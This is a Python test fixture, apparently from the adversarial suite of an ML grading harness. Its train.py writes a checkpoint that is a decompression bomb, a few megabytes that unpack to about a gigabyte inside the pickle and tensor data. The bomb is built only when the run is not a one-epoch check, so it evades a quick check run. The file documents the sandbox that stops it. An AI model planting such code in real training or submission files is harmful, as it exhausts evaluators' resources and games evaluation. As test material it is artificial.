"""Saves a checkpoint of a few megabytes that unpacks to gigabytes, the same again under names that count twice.

Must not: fill the grader's memory or a disk, or cost other questions.
Attacks: ex5
Stopped by: a checkpoint is opened in a sandbox that has no more memory than any other.
"""

# %% train.py
import io, os, sys, zipfile, torch

os.mkdir("output")
saved = io.BytesIO()
torch.save({"weight": torch.zeros(1, 40)}, saved)
original = zipfile.ZipFile(saved)
with zipfile.ZipFile("output/model.pt", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb:
    for entry in original.infolist():
        content = original.read(entry)
        if entry.filename.endswith("data.pkl") and sys.argv[sys.argv.index("--epochs") + 1] != "1":
            # The pickle itself is vast: a text of half a gigabyte that is thrown away again.
            with bomb.open(entry.filename, "w", force_zip64=True) as file:
                file.write(b"\x80\x02X" + (1 << 29).to_bytes(4, "little"))
                for _ in range(1 << 9):
                    file.write(b"a" * (1 << 20))
                file.write(b"0" + content[2:])
        elif entry.filename.endswith("data/0"):
            with bomb.open(entry.filename, "w", force_zip64=True) as file:
                for _ in range(1 << 9):
                    file.write(bytes(1 << 20))
        else:
            bomb.writestr(entry.filename, content)
